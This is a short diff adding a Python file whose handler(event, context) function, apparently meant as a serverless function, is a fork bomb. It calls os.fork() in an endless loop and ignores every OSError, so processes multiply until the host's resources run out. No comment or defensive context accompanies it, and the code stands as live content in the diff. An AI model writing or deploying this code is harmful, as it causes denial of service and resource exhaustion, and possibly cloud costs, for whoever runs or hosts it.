@@ -1,0 +1,9 @@
+import os
+
+
+def handler(event, context):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
